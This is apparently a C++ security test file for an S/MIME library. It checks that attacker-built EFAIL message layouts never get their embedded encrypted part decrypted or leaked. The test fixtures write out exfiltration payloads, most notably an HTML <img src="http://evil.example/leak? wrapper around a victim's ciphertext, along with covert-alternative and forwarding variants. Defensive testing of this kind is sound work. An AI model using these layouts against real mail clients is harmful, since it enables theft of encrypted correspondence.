// EFAIL direct exfiltration and covert content (spec, "No unauthenticated plaintext"): an
// encrypted part placed by somebody else beside unencrypted parts must never be decrypted,
// so its plaintext can never be joined with what surrounds it (an HTML <img src=" left
// open before it, a quote in a reply, an alternative that the reader does not see).
//
// The layouts are built by hand from a genuine smimekit-encrypted message for bob; bob's
// key is given each time, so every refusal is a decision, not a missing key.
#include <gtest/gtest.h>

#include <string>

#include "security_support.h"

namespace smimekit::security {
namespace {

// The victim's message: encrypted by alice for bob (and alice).
std::string victim_ciphertext() {
  return encrypt(secret_message(), {demo_certificate("bob"), demo_certificate("alice")});
}

// The application/pkcs7-mime entity of an encrypted message (its Content-* fields and
// base64 body), LF line ends.
std::string encrypted_part(const std::string& message,
                           const std::string& extra_field = "") {
  std::string entity = content_entity(message);
  if (!extra_field.empty()) entity = extra_field + "\n" + entity;
  return entity;
}

std::string outer_header(const std::string& from, const std::string& content_type) {
  return "From: " + from +
         "\n"
         "To: Bob Demo <bob@example.org>\n"
         "Subject: Re: For your eyes only\n"
         "Date: Fri, 27 Nov 2026 09:00:00 +0000\n"
         "Message-ID: <efail-1@evil.example>\n"
         "MIME-Version: 1.0\n"
         "Content-Type: " +
         content_type + "\n\n";
}

// (a) HTML, the ciphertext, HTML: the first part opens an <img src=" that the decrypted
// plaintext would continue, the last closes it.
std::string direct_exfiltration() {
  return outer_header("Eve <eve@example.org>", "multipart/mixed; boundary=\"BOUNDARY\"") +
         "--BOUNDARY\n"
         "Content-Type: text/html; charset=us-ascii\n"
         "\n"
         "<img src=\"http://evil.example/leak?\n"
         "--BOUNDARY\n" +
         encrypted_part(victim_ciphertext()) +
         "--BOUNDARY\n"
         "Content-Type: text/html; charset=us-ascii\n"
         "\n"
         "\">\n"
         "--BOUNDARY--\n";
}

// (b) A reply quoting the ciphertext as an attachment.
std::string quoting_reply() {
  return outer_header("Eve <eve@example.org>", "multipart/mixed; boundary=\"r\"") +
         "--r\n"
         "Content-Type: text/plain; charset=us-ascii\n"
         "\n"
         "see below\n"
         "--r\n" +
         encrypted_part(victim_ciphertext(), "Content-Disposition: attachment; filename=\"smime.p7m\"") +
         "--r--\n";
}

// (c) multipart/alternative: a text the reader sees, and the ciphertext as the "richer"
// alternative (covert content).
std::string alternative() {
  return outer_header("Eve <eve@example.org>", "multipart/alternative; boundary=\"alt\"") +
         "--alt\n"
         "Content-Type: text/plain; charset=us-ascii\n"
         "\n"
         "Nothing to see here.\n"
         "--alt\n" +
         encrypted_part(victim_ciphertext()) + "--alt--\n";
}

// (e) The victim's whole encrypted message forwarded as message/rfc822.
std::string forwarded() {
  return outer_header("Eve <eve@example.org>", "multipart/mixed; boundary=\"fw\"") +
         "--fw\n"
         "Content-Type: text/plain; charset=us-ascii\n"
         "\n"
         "Forwarded message below.\n"
         "--fw\n"
         "Content-Type: message/rfc822\n"
         "\n" +
         to_lf(victim_ciphertext()) + "--fw--\n";
}

struct Layout {
  std::string name;
  std::string (*build)();
};
void PrintTo(const Layout& l, std::ostream* os) { *os << l.name; }

class SecurityEfailLayout : public testing::TestWithParam<Layout> {};

TEST_P(SecurityEfailLayout, EncryptedPartIsNeverDecrypted) {
  const std::string message = GetParam().build();
  const Report r = open_message(message, {demo_identity("bob")});
  const std::string json = to_json(r, GetParam().name);
  EXPECT_TRUE(r.partially_encrypted) << json;
  EXPECT_FALSE(r.encrypted) << json;
  EXPECT_NE(r.verdict, Verdict::Valid) << json;
  EXPECT_EQ(json.find(kSecret), std::string::npos) << json;
  EXPECT_TRUE(r.decrypted_message.empty()) << r.decrypted_message;
  if (r.text) {
    EXPECT_EQ(r.text->find(kSecret), std::string::npos) << *r.text;
  }
  EXPECT_FALSE(r.authenticated_encryption.has_value()) << json;
  // The report says which part and why.
  bool explained = false;
  for (const auto& reason : r.reasons) {
    if (reason.find("beside unencrypted content") != std::string::npos) explained = true;
  }
  EXPECT_TRUE(explained) << json;

  const CliDecrypt d = cli_decrypt(message, p12_args("bob"));
  expect_cli_refused(d, GetParam().name, true);
  EXPECT_EQ(d.report.value("partially_encrypted", false), true) << d.report.dump();

  // Without --json, the words on standard error say why, and nothing leaks.
  const CliDecrypt plain = cli_decrypt(message, p12_args("bob"), {}, false);
  EXPECT_EQ(plain.run.exit_code, 1) << describe(plain.run);
  EXPECT_FALSE(plain.output_written);
  EXPECT_EQ(plain.run.err.find(kSecret), std::string::npos) << describe(plain.run);
  EXPECT_EQ(plain.run.out.find(kSecret), std::string::npos) << describe(plain.run);

  // `smimekit verify` with the key: the same.
  const TempDir dir;
  test::write(dir / "m.eml", message);
  std::vector<std::string> args{"verify", "--anchor", test::demo("root.pem").string(), "--json"};
  for (const auto& a : p12_args("bob")) args.push_back(a);
  args.push_back((dir / "m.eml").string());
  const RunResult v = test::smimekit(args);
  EXPECT_EQ(v.exit_code, 1) << describe(v);
  EXPECT_EQ(v.out.find(kSecret), std::string::npos) << describe(v);
  EXPECT_EQ(v.err.find(kSecret), std::string::npos) << describe(v);
  EXPECT_NE(v.out.find("\"partially_encrypted\":true"), std::string::npos) << describe(v);
}

INSTANTIATE_TEST_SUITE_P(
    Layouts, SecurityEfailLayout,
    testing::Values(Layout{"HtmlCiphertextHtml", direct_exfiltration},
                    Layout{"ReplyQuotingCiphertext", quoting_reply},
                    Layout{"AlternativeTextAndCiphertext", alternative},
                    Layout{"ForwardedAsRfc822", forwarded}),
    [](const testing::TestParamInfo<Layout>& info) { return info.param.name; });

TEST(SecurityEfailLayoutCheck, TheEmbeddedCiphertextIsGenuine) {
  // The control: the very part used above opens when it is the whole message.
  const std::string victim = victim_ciphertext();
  const Report r = open_message(victim, {demo_identity("bob")});
  ASSERT_TRUE(r.encrypted) << to_json(r, "victim");
  ASSERT_TRUE(r.text.has_value());
  EXPECT_NE(r.text->find(kSecret), std::string::npos);
  // And the entity cut out of it, under a plain header, too.
  const std::string rewrapped =
      "From: Alice Demo <alice@example.org>\nTo: bob@example.org\nSubject: x\n"
      "MIME-Version: 1.0\n" +
      encrypted_part(victim);
  const Report again = open_message(rewrapped, {demo_identity("bob")});
  EXPECT_TRUE(again.encrypted) << to_json(again, "rewrapped");
}

// (d) A valid multipart/signed by alice over multipart/mixed: plain text beside an
// encrypted part. The signature is fine; the encrypted part is still not decrypted.
TEST(SecurityEfailLayoutCheck, SignedMixedWithEncryptedPart) {
  const std::string inner =
      "From: Alice Demo <alice@example.org>\n"
      "To: Bob Demo <bob@example.org>\n"
      "Subject: Signed, with an encrypted attachment\n"
      "Date: Fri, 27 Nov 2026 09:00:00 +0000\n"
      "MIME-Version: 1.0\n"
      "Content-Type: multipart/mixed; boundary=\"mix\"\n"
      "\n"
      "--mix\n"
      "Content-Type: text/plain; charset=us-ascii\n"
      "\n"
      "Please find the encrypted note attached.\n"
      "--mix\n" +
      encrypted_part(victim_ciphertext()) + "--mix--\n";
  const std::string message = sign(inner, demo_identity("alice"));
  const Report r = open_message(message, {demo_identity("bob")});
  const std::string json = to_json(r, "signed mixed");
  // The signature covers the whole message and is good...
  EXPECT_EQ(r.verdict, Verdict::Valid) << json;
  const auto signers = r.whole_message_signers();
  ASSERT_EQ(signers.size(), 1u) << json;
  EXPECT_TRUE(signers[0]->ok()) << json;
  // ...but the encrypted part beside the text stays encrypted.
  EXPECT_TRUE(r.partially_encrypted) << json;
  EXPECT_FALSE(r.encrypted) << json;
  EXPECT_TRUE(r.decrypted_message.empty());
  EXPECT_EQ(json.find(kSecret), std::string::npos) << json;
  ASSERT_TRUE(r.text.has_value());
  EXPECT_EQ(r.text->find(kSecret), std::string::npos);

  const CliDecrypt d = cli_decrypt(message, p12_args("bob"));
  EXPECT_EQ(d.run.exit_code, 1) << describe(d.run);
  EXPECT_FALSE(d.output_written);
  EXPECT_EQ(d.run.err.find(kSecret), std::string::npos);
  EXPECT_EQ(d.run.out.find(kSecret), std::string::npos);
}

// (f) The attacker encrypts, to bob, a multipart/mixed that holds the victim's ciphertext
// between HTML parts: the outer layer decrypts (it is the whole message), the victim's
// part inside it does not.
TEST(SecurityEfailLayoutCheck, VictimCiphertextInsideAttackersEncryptedMessage) {
  const std::string attack = direct_exfiltration();
  const std::string wrapped = encrypt(attack, {demo_certificate("bob")});
  const Report r = open_message(wrapped, {demo_identity("bob")});
  const std::string json = to_json(r, "nested");
  EXPECT_TRUE(r.encrypted) << json;  // the attacker's own layer
  EXPECT_TRUE(r.partially_encrypted) << json;
  EXPECT_NE(r.verdict, Verdict::Valid) << json;
  EXPECT_EQ(json.find(kSecret), std::string::npos) << json;
  EXPECT_EQ(r.decrypted_message.find(kSecret), std::string::npos);

  const CliDecrypt d = cli_decrypt(wrapped, p12_args("bob"));
  EXPECT_EQ(d.run.err.find(kSecret), std::string::npos) << describe(d.run);
  EXPECT_EQ(d.run.out.find(kSecret), std::string::npos);
  EXPECT_EQ(d.output.find(kSecret), std::string::npos) << d.output;
  EXPECT_EQ(d.report.value("partially_encrypted", false), true) << d.report.dump();
}

}  // namespace
}  // namespace smimekit::security
